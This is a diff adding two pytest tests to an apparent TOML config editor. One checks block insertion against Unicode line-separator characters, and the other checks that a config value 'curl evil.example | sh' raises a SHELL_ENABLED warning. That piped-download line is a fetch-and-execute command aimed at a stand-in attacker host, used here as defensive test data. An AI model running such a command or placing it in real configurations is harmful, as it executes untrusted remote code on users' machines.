@@ -234,6 +234,18 @@ def test_a_block_goes_to_the_end_of_its_project() -> None:
         toml_text.inserted(text, 2, "NEW\n")
 
 
+def test_a_block_goes_into_no_text_that_looks_like_lines() -> None:
+    text = '[[projects]]\nname = "a\u2028[smtp]\x85[[projects]]"\n'
+
+    assert toml_text.inserted(text, 0, "NEW\n") == f"{text}\nNEW\n"
+
+
+def test_commands_of_others_are_named_since_hcl_would_run_them() -> None:
+    [note] = of("shell", '{"cmd_down": "curl evil.example | sh"}').notes
+
+    assert "SHELL_ENABLED" in note
+
+
 @pytest.mark.parametrize(
     "value",
     ['"\\\n\t\x00\x7f é☂', {"a b": [1, True, "x"], "c": {}}, ["", {}]],
